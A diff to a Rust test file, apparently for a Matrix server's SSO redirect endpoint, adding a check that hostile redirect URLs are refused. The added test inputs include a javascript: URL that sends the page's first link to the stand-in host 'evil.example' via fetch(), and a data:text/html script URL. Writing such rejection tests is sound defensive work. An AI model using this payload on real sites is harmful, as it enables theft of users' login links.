@@ -203,6 +203,11 @@ async fn the_redirect_needs_a_redirect_url_a_known_provider_and_the_public_host(
     assert_eq!((status, errcode(&body)), (StatusCode::BAD_REQUEST, "M_MISSING_PARAM"), "{body}");
     let (status, body) = server.get(&redirect_path("nobody", CLIENT), None).await;
     assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
+    // A redirect target that would run script on this server's confirmation page gets no attempt.
+    for hostile in ["javascript:fetch('//evil.example/?'+document.links[0].href)//", " Data:text/html,<script>x</script>"] {
+        let (status, body) = server.get(&redirect_path("basic", hostile), None).await;
+        assert_eq!((status, errcode(&body)), (StatusCode::BAD_REQUEST, "M_INVALID_PARAM"), "{hostile}: {body}");
+    }
 
     // Another host name for the same server: sent to public_baseurl's first, nothing stored.
     let other_host = server.base.replace("127.0.0.1", "localhost");
